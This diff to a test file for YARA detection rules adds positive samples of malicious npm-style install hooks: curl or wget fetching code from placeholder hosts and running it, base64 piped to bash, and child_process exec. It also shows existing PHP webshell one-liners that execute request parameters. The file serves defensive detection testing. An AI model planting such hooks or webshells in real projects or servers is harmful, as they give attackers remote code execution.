@@ -33,6 +33,10 @@ def match(compiled: yara.Rules, data: bytes) -> set[str]:
 
 
 POSITIVES: list[tuple[str, bytes]] = [
+    ("install_hook_fetches_code", b'{"scripts": {"postinstall": "curl -fsSL http://cdn.invalid/i.sh | sh"}}'),
+    ("install_hook_fetches_code", b'{"scripts": {"preinstall": "wget -q http://192.0.2.1/x -O x && chmod +x x && ./x"}}'),
+    ("install_hook_fetches_code", b'{"scripts": {"install": "echo aWQ= | base64 -d | bash"}}'),
+    ("install_hook_fetches_code", b"{\"scripts\": {\"preinstall\": \"node -e \\\"require('child_process').exec('id')\\\"\"}}"),
     ("webshell_php_request_to_execution", b"<?php system($_GET['c']); ?>"),
     ("webshell_php_request_to_execution", b"<?php @eval(base64_decode($_POST['q'])); ?>"),
     ("webshell_php_request_to_execution", b"<?= `$_REQUEST[0]` ?>"),
